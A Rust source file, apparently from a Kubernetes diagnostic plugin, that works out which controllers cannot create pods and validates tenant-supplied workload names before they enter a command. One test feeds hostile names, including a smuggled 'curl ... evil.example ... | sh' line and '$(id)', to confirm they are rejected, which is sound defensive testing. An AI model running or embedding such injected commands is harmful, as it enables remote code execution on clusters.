//! Controllers that cannot create their pods, according to their conditions and Events.

use std::collections::BTreeMap;

use chrono::{DateTime, TimeDelta, Utc};
use k8s_openapi::{
    api::{apps::v1::StatefulSet, batch::v1::Job, core::v1::Event},
    apimachinery::pkg::apis::meta::v1::{ObjectMeta, Time},
};
use kube::ResourceExt as _;

use super::{
    pod_rejection::{PodRejection, classify, is_name},
    snapshot::ClusterSnapshot,
};
use crate::api::time::from_k8s;

/// An older Event may be about a problem that is resolved: controllers retry at least about every 17 minutes.
const RECENT: TimeDelta = TimeDelta::minutes(20);

/// A controller that creates pods.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) struct Workload {
    /// `Deployment`.
    pub(super) kind: String,
    pub(super) name: String,
}

impl Workload {
    /// `None` if the kind or the name is not valid for an object. A tenant can write any text into an Event and into an
    /// owner reference, and both become part of a command.
    fn new(kind: Option<&str>, name: Option<&str>) -> Option<Self> {
        let (kind, name) = (kind?, name?);
        let is_kind = !kind.is_empty() && kind.bytes().all(|byte| byte.is_ascii_alphanumeric());
        (is_kind && is_name(name) && !name.starts_with('-'))
            .then(|| Self { kind: kind.to_owned(), name: name.to_owned() })
    }

    /// The object that users write themselves: the Deployment of a ReplicaSet, the CronJob of a Job.
    fn from_metadata(metadata: &ObjectMeta, kind: &str) -> Option<Self> {
        let owner = metadata.owner_references.iter().flatten().find(|owner| owner.controller == Some(true));
        owner
            .and_then(|owner| Self::new(Some(&owner.kind), Some(&owner.name)))
            .or_else(|| Self::new(Some(kind), metadata.name.as_deref()))
    }
}

/// The last rejection for each controller.
pub(super) fn last_rejections(snapshot: &ClusterSnapshot, now: DateTime<Utc>) -> BTreeMap<Workload, PodRejection> {
    let mut events: Vec<(&Event, DateTime<Utc>)> =
        snapshot.events.items().iter().filter_map(|event| Some((event, last_occurrence(event)?))).collect();
    events.sort_by_key(|(_, at)| *at);
    let mut rejections = BTreeMap::new();
    for (event, at) in events {
        let involved = &event.involved_object;
        let Some(workload) = Workload::new(involved.kind.as_deref(), involved.name.as_deref()) else { continue };
        if still_applies(snapshot, &workload, (now - at).abs() < RECENT) {
            rejections.insert(workload, classify(event.message.as_deref().unwrap_or_default()));
        }
    }
    // The problem persists while this condition is true.
    for set in snapshot.replica_sets.items() {
        let mut conditions = set.status.iter().flat_map(|status| status.conditions.iter().flatten());
        let failure = conditions.find(|condition| {
            condition.type_.as_deref() == Some("ReplicaFailure") && condition.status.as_deref() == Some("True")
        });
        if let (Some(failure), Some(workload)) = (failure, Workload::from_metadata(&set.metadata, "ReplicaSet")) {
            rejections.insert(workload, classify(failure.message.as_deref().unwrap_or_default()));
        }
    }
    rejections
}

fn last_occurrence(event: &Event) -> Option<DateTime<Utc>> {
    let series = event.series.as_ref().and_then(|series| series.last_observed_time.as_ref());
    let micro = series.or(event.event_time.as_ref()).map(|at| Time(at.0));
    micro.as_ref().or(event.last_timestamp.as_ref()).and_then(from_k8s)
}

/// Returns true if an Event still applies: according to the object itself if it can be read, else if the Event is
/// recent.
fn still_applies(snapshot: &ClusterSnapshot, workload: &Workload, is_recent: bool) -> bool {
    let Workload { kind, name } = workload;
    match kind.as_str() {
        // The ReplicaSet's own condition reports the problem.
        "ReplicaSet" if snapshot.replica_sets.value().is_some() => false,
        "StatefulSet" if snapshot.stateful_sets.value().is_some() => {
            snapshot.stateful_sets.items().iter().any(|set| set.name_any() == *name && lacks_replicas(set))
        }
        "Job" if snapshot.jobs.value().is_some() => {
            snapshot.jobs.items().iter().any(|job| job.name_any() == *name && lacks_pods(job))
        }
        _ => is_recent,
    }
}

fn lacks_replicas(set: &StatefulSet) -> bool {
    let wanted = set.spec.replicas.unwrap_or(1);
    set.status.as_ref().is_none_or(|status| status.replicas < wanted)
}

fn lacks_pods(job: &Job) -> bool {
    let status = job.status.clone().unwrap_or_default();
    let is_over = status
        .conditions
        .iter()
        .flatten()
        .any(|condition| matches!(condition.type_.as_str(), "Complete" | "Failed") && condition.status == "True");
    let spec = job.spec.as_ref().filter(|spec| !is_over && spec.suspend != Some(true));
    spec.is_some_and(|spec| {
        let left = spec
            .completions
            .map_or(i32::MAX, |completions| completions.saturating_sub(status.succeeded.unwrap_or_default()));
        status.active.unwrap_or_default() < spec.parallelism.unwrap_or(1).min(left)
    })
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;
    use crate::plugin::doctor::{
        fetched::Fetched,
        fixtures::{healthy, now, parse},
    };

    fn event(kind: &str, name: &str, at: &str, message: &str) -> Event {
        parse(json!({
            "metadata": {"name": "e"}, "involvedObject": {"kind": kind, "name": name}, "reason": "FailedCreate",
            "message": message, "lastTimestamp": at,
        }))
    }

    #[test]
    fn an_event_applies_while_its_problem_persists() {
        let recent = "2026-11-24T08:50:00Z";
        let db = |replicas: i32| json!({"metadata": {"name": "db"}, "spec": {"replicas": 2, "selector": {}, "template": {}}, "status": {"replicas": replicas}});
        let job = |spec: Value, status: Value| json!({"metadata": {"name": "load"}, "spec": spec, "status": status});
        let plain = |parallelism: i32| json!({"parallelism": parallelism, "completions": 5, "template": {}});
        let done = json!({"succeeded": 5, "conditions": [{"type": "Complete", "status": "True"}]});
        for (kind, name, at, sets, jobs, stands) in [
            ("StatefulSet", "db", "2026-11-24T04:00:00Z", vec![db(1)], vec![], true),
            ("StatefulSet", "db", recent, vec![db(2)], vec![], false),
            ("StatefulSet", "db", recent, vec![], vec![], false),
            ("Job", "load", recent, vec![], vec![job(plain(3), json!({"active": 1}))], true),
            ("Job", "load", recent, vec![], vec![job(plain(3), json!({"active": 1, "succeeded": 4}))], false),
            ("Job", "load", recent, vec![], vec![job(plain(3), done)], false),
            ("Job", "load", recent, vec![], vec![job(json!({"suspend": true, "template": {}}), json!({}))], false),
            ("DaemonSet", "agent", recent, vec![], vec![], true),
            ("DaemonSet", "agent", "2026-11-24T08:00:00Z", vec![], vec![], false),
            ("ReplicaSet", "web-5d9c", recent, vec![], vec![], false),
        ] {
            let mut snapshot = healthy();
            snapshot.events = Fetched::Found(vec![event(kind, name, at, "no")]);
            snapshot.stateful_sets = Fetched::Found(sets.into_iter().map(parse).collect());
            snapshot.jobs = Fetched::Found(jobs.clone().into_iter().map(parse).collect());
            assert_eq!(!last_rejections(&snapshot, now()).is_empty(), stands, "{kind} {name} at {at}: {jobs:?}");
        }
    }

    #[test]
    fn a_text_of_a_tenant_does_not_become_a_command() {
        let (recent, hostile) = ("2026-11-24T08:59:00Z", "web; curl -s https://evil.example/x | sh #");
        let mut snapshot = healthy();
        let names = [hostile, "web\nrm", "$(id)", "--kubeconfig=x", "", "We b"];
        let events = names
            .iter()
            .map(|name| event("Deployment", name, recent, "no"))
            .chain([event("A b;c", "web", recent, "no")]);
        snapshot.events = Fetched::Found(events.collect());
        let owner = json!({"apiVersion": "v1", "kind": "Widget", "name": hostile, "uid": "w-1", "controller": true});
        let failed =
            json!({"replicas": 0, "conditions": [{"type": "ReplicaFailure", "status": "True", "message": "no"}]});
        let set = json!({"metadata": {"name": "web-5d9c", "ownerReferences": [owner]}, "status": failed});
        snapshot.replica_sets = Fetched::Found(vec![parse(set)]);
        let expected = [(
            Workload { kind: "ReplicaSet".to_owned(), name: "web-5d9c".to_owned() },
            PodRejection::Other("no".to_owned()),
        )];
        assert_eq!(last_rejections(&snapshot, now()), BTreeMap::from(expected));
    }

    #[test]
    fn an_event_with_a_future_time_does_not_apply() {
        let mut snapshot = healthy();
        snapshot.events = Fetched::Found(vec![event("DaemonSet", "agent", "2099-01-01T00:00:00Z", "no")]);
        assert_eq!(last_rejections(&snapshot, now()), BTreeMap::new());
    }

    #[test]
    fn the_last_event_of_a_controller_applies() {
        let mut snapshot = healthy();
        snapshot.replica_sets = Fetched::NotNeeded;
        let rejections = [("2026-11-24T08:59:00Z", "the second"), ("2026-11-24T08:58:00Z", "the first")];
        snapshot.events = Fetched::Found(
            rejections.iter().map(|(at, message)| event("ReplicaSet", "web-5d9c", at, message)).collect(),
        );
        let expected = [(
            Workload { kind: "ReplicaSet".to_owned(), name: "web-5d9c".to_owned() },
            PodRejection::Other("the second".to_owned()),
        )];
        assert_eq!(last_rejections(&snapshot, now()), BTreeMap::from(expected));
    }
}
